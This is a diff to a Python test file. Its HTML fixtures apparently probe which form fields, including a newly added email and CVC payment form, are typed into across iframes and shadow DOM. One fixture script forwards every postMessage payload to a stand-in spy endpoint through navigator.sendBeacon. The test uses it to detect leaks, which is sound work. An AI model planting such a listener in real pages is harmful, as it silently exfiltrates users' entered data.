@@ -65,7 +65,7 @@ MASKED = """<!doctype html><link rel=icon href=data:,><form><input name=contact 
 FRAMED = f"""<!doctype html><link rel=icon href=data:,><iframe src=/own></iframe>
 <iframe src=https://letters.example/sign width=300 height=200></iframe>
 <iframe src=/own style="width:1px;height:1px"></iframe>
-<div id=host></div><script>
+<form action=/pay><input name=buyer type=email><input name=cvc></form><div id=host></div><script>
 const shadow = document.getElementById('host').attachShadow({{mode: 'open'}});
 shadow.innerHTML = '<form><input name=shaded type=email></form>';
 addEventListener('message', (event) => navigator.sendBeacon('{SPY}/bye', event.data));
@@ -177,6 +177,7 @@ async def test_forms_in_frames_and_shadows_are_typed_into(seen: Seen) -> None:
     """Of another company's frame only what asks who one is: what is typed into a chat is shown to somebody."""
     rows = seen.framed.typed_values or ()
     assert {(row.field, row.kind, row.frame_url) for row in rows} == {
+        ("buyer", "email", f"{SHOP}/framed"),
         ("shaded", "email", f"{SHOP}/framed"),
         ("inner", "email", f"{SHOP}/own"),
         ("secret", "password", f"{SHOP}/own"),
